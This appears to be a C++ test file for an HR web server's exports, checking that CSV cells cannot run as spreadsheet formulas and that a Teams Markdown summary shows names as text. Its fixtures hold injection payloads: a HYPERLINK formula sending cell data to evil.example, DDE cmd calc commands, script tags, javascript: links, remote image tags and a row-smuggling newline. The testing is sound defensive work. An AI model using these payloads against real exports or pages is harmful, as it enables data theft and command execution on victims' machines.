// Hostile names from the roster in HR's downloads: every CSV cell opens as text in a
// spreadsheet (no formula, no DDE command), and the Markdown summary for Teams shows the names
// as text (no HTML, no link, no image, no extra table cell or row).
#include "hr/csv_cells.h"
#include "hr/markdown_text.h"
#include "sync_server/hr/hr_web_fixture.h"

#include <sstream>

using namespace osm;

namespace {

const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"klik\")";
const std::string kAtSum = "@SUM(1+1)*cmd|' /C calc'!A0";
const std::string kPlusCmd = "+cmd|' /C calc'!A0";
const std::string kMinus = "-2+3+cmd|' /C calc'!A0";

// Cells of a CSV in HR's dialect (semicolons, "…" with doubled quotes), one vector a record.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string cell;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                cell += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ';') {
            rows.back().push_back(std::move(cell));
            cell.clear();
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            rows.back().push_back(std::move(cell));
            cell.clear();
            rows.emplace_back();
            ++i;
        } else {
            cell += c;
        }
    }
    if (rows.back().empty()) rows.pop_back();
    return rows;
}

bool isNumber(const std::string& cell) {
    return !cell.empty() && cell.find_first_not_of("-0123456789,") == std::string::npos &&
           cell.find_first_of("0123456789") != std::string::npos;
}

// A spreadsheet would run the cell: it starts with a formula trigger and is not a plain number.
bool live(const std::string& cell) {
    return !cell.empty() && std::string("=+-@\t\r\n").find(cell[0]) != std::string::npos && !isNumber(cell);
}

struct HostileRoster : test::HrWebFixture {
    HostileRoster()
        : HrWebFixture(false, [](domain::Organisation& org) {
              org.serviceAreas[0].name = kPlusCmd;
              org.units[0].name = kAtSum;
              org.units[1].name = "\tTAB\rCR";
              for (domain::Person& p : org.people) {
                  if (p.unitId == org.units[0].id && p.isManager()) p.name = kHyperlink;
                  if (p.unitId == org.units[1].id && p.isManager()) p.name = kMinus;
              }
          }) {}
};

struct HostileMarkdown : test::HrWebFixture {
    HostileMarkdown()
        : HrWebFixture(false, [](domain::Organisation& org) {
              // Every unit of the first unit's service area, and that area.
              const std::string area = org.units[0].serviceAreaId;
              for (domain::ServiceArea& a : org.serviceAreas) {
                  if (a.id == area) a.name = "![x](https://evil.example/x.png) <img src=https://evil.example/y.png>";
              }
              int n = 0;
              for (domain::Unit& u : org.units) {
                  if (u.serviceAreaId != area) continue;
                  u.name = n++ == 0 ? "<script>alert(1)</script> | extra cell" : "Rivi\n| injected | row | 1 | 1 |";
                  for (domain::Person& p : org.people) {
                      if (p.unitId == u.id && p.isManager())
                          p.name = n == 1 ? "[klik](javascript:alert(1))" : "<javascript:alert(2)> **bold** `code`";
                  }
              }
          }) {}

    std::string download(const std::string& what) {
        const std::string cookie = signIn("Osaamissilta-demo-2026");
        REQUIRE_FALSE(cookie.empty());
        auto c = client();
        auto res = c.Get(("/hr/export/" + what).c_str(), httplib::Headers{{"Cookie", cookie}});
        REQUIRE(res);
        REQUIRE(res->status == 200);
        return res->body;
    }
};

// The '|' that separate cells, not the escaped "\|" inside one.
int cellSeparators(const std::string& line) {
    int count = 0;
    for (std::size_t i = 0; i < line.size(); ++i) {
        if (line[i] == '\\') {
            ++i;
        } else if (line[i] == '|') {
            ++count;
        }
    }
    return count;
}

}  // namespace

TEST_CASE("a CSV cell that starts a formula gets an apostrophe; numbers and text stay as they are") {
    using server::neutraliseCsvCell;
    for (const std::string& formula :
         {kHyperlink, kAtSum, kPlusCmd, kMinus, std::string("\tx"), std::string("\rx"), std::string("  =1+1"),
          std::string("\xEF\xBC\x9D"
                      "1+1")}) {
        CHECK(neutraliseCsvCell(formula) == "'" + formula);
    }
    for (const std::string& plain : {std::string("Päiväkoti Satakieli"), std::string("-3,5"), std::string("100,0"),
                                     std::string("12"), std::string(""), std::string("a=b")}) {
        CHECK(neutraliseCsvCell(plain) == plain);
    }
}

TEST_CASE_FIXTURE(HostileRoster, "no cell of completion.csv, aggregates.csv or follow_up.csv is a live formula") {
    const std::string cookie = signIn("Osaamissilta-demo-2026");
    REQUIRE_FALSE(cookie.empty());
    auto c = client();
    for (const char* what : {"/hr/export/completion.csv", "/hr/export/aggregates.csv", "/hr/export/follow_up.csv"}) {
        auto res = c.Get(what, httplib::Headers{{"Cookie", cookie}});
        REQUIRE(res);
        REQUIRE(res->status == 200);
        const auto rows = parseCsv(res->body.substr(3));  // after the BOM
        INFO(res->body);
        REQUIRE_FALSE(rows.empty());
        for (const auto& row : rows) {
            for (const std::string& cell : row) {
                INFO(what << ": " << cell);
                CHECK_FALSE(live(cell));
            }
        }
    }
    const auto rows =
        parseCsv(c.Get("/hr/export/completion.csv", httplib::Headers{{"Cookie", cookie}})->body.substr(3));
    bool hyperlink = false, atSum = false, plusCmd = false, minus = false, tab = false;
    for (const auto& row : rows) {
        for (const std::string& cell : row) {
            hyperlink = hyperlink || cell == "'" + kHyperlink;
            atSum = atSum || cell == "'" + kAtSum;
            plusCmd = plusCmd || cell == "'" + kPlusCmd;
            minus = minus || cell == "'" + kMinus;
            tab = tab || cell == "'\tTAB\rCR";
        }
    }
    CHECK(hyperlink);  // the names are all there, as text
    CHECK(atSum);
    CHECK(plusCmd);
    CHECK(minus);
    CHECK(tab);
}

TEST_CASE("Markdown text: markup characters are escaped, control characters become spaces") {
    CHECK(server::markdownText("Päiväkoti Satakieli") == "Päiväkoti Satakieli");
    CHECK(server::markdownText("<b>a|b</b>") == "&lt;b&gt;a\\|b&lt;/b&gt;");
    CHECK(server::markdownText("![x](y) [a](javascript:z)") == "\\!\\[x\\](y) \\[a\\](javascript:z)");
    CHECK(server::markdownText(std::string("a\nb\r\tc\0d\x1b", 9)) == "a b  c d ");
    CHECK(server::markdownText("*_`~\\&") == "\\*\\_\\`\\~\\\\&amp;");
}

TEST_CASE_FIXTURE(HostileMarkdown, "the Teams summary shows hostile names as text") {
    const std::string area = storage->units()->at(0).serviceAreaId;
    const std::string md = download("summary-" + area + ".md");
    CHECK(md.find("<script") == std::string::npos);
    CHECK(md.find("<img") == std::string::npos);
    CHECK(md.find("<javascript") == std::string::npos);
    CHECK(md.find("![") == std::string::npos);
    CHECK(md.find("**bold**") == std::string::npos);
    CHECK(md.find("&lt;script&gt;alert(1)&lt;/script&gt; \\| extra cell") != std::string::npos);
    for (std::size_t at = md.find("]("); at != std::string::npos; at = md.find("](", at + 1))
        CHECK(md[at - 1] == '\\');  // no link or image target: every ] is escaped
    // Every row has as many cells as its table's header, and a newline in a name starts no row.
    std::istringstream lines(md);
    int tableRows = 0;
    int headerSeparators = -1;
    std::string previous;
    for (std::string line; std::getline(lines, line); previous = line) {
        CHECK(line.rfind("| injected", 0) != 0);
        if (line.rfind("| ", 0) != 0) continue;
        if (previous.rfind("|", 0) != 0) {
            headerSeparators = cellSeparators(line);
            continue;
        }
        ++tableRows;
        INFO(line);
        CHECK(cellSeparators(line) == headerSeparators);
    }
    CHECK(tableRows >= 3);
}
